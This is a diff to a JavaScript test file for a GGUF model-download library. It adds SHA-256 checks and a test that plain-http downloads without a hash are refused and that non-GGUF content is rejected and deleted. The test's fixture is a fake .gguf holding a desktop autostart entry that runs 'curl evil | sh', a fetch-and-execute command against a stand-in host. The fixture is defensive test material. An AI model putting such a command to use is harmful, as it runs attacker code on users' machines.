@@ -163,7 +163,7 @@ test("a cancelled download stops with ABORTED and resumes from its temp file", a
   const controller = new AbortController();
   const watchdog = setTimeout(() => controller.abort(), 20_000);
   await assert.rejects(
-    library.download({ uri }, {
+    library.download({ uri, sha256: sha256(body) }, {
       signal: controller.signal,
       onProgress: (p) => {
         if (p.current >= stallAt) controller.abort();
@@ -229,7 +229,25 @@ test("an unreachable host fails fast instead of hanging", async () => {
   // A missing file on a live server: DOWNLOAD_FAILED with the status, no retries for minutes.
   const plain = await open();
   started = Date.now();
-  await assert.rejects(plain.download({ uri: `${srv.base}/files/missing.gguf` }), (e) => isEngineError(e, "DOWNLOAD_FAILED") && /404/.test(e.message));
+  await assert.rejects(plain.download({ uri: `${srv.base}/files/missing.gguf`, sha256: "0".repeat(64) }), (e) => isEngineError(e, "DOWNLOAD_FAILED") && /404/.test(e.message));
   assert.ok(Date.now() - started < 3500, `took ${Date.now() - started} ms`);
   await assert.rejects(plain.download({ uri: "ftp://example.com/x.gguf" }), (e) => isEngineError(e, "INVALID_INPUT"));
+});
+
+test("issue 7: a plain-http download needs a SHA-256, and what arrives must be a GGUF or it is deleted", async () => {
+  const library = await open();
+  const requestsBefore = srv.requests.length;
+  await assert.rejects(
+    library.download({ uri: `${srv.base}/files/tiny-q4_0.gguf` }),
+    (e) => isEngineError(e, "INVALID_INPUT") && /SHA-256/.test(e.message),
+  );
+  assert.equal(srv.requests.length, requestsBefore, "refused before any request");
+
+  const script = Buffer.from("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n");
+  files.set("/files/autostart.gguf", script);
+  await assert.rejects(
+    library.download({ uri: `${srv.base}/files/autostart.gguf`, sha256: sha256(script) }),
+    (e) => isEngineError(e, "INVALID_MODEL_FILE") && /not a GGUF/.test(e.message),
+  );
+  assert.ok(!existsSync(join(library.downloadDir, "autostart.gguf")), "the non-GGUF file was deleted");
 });
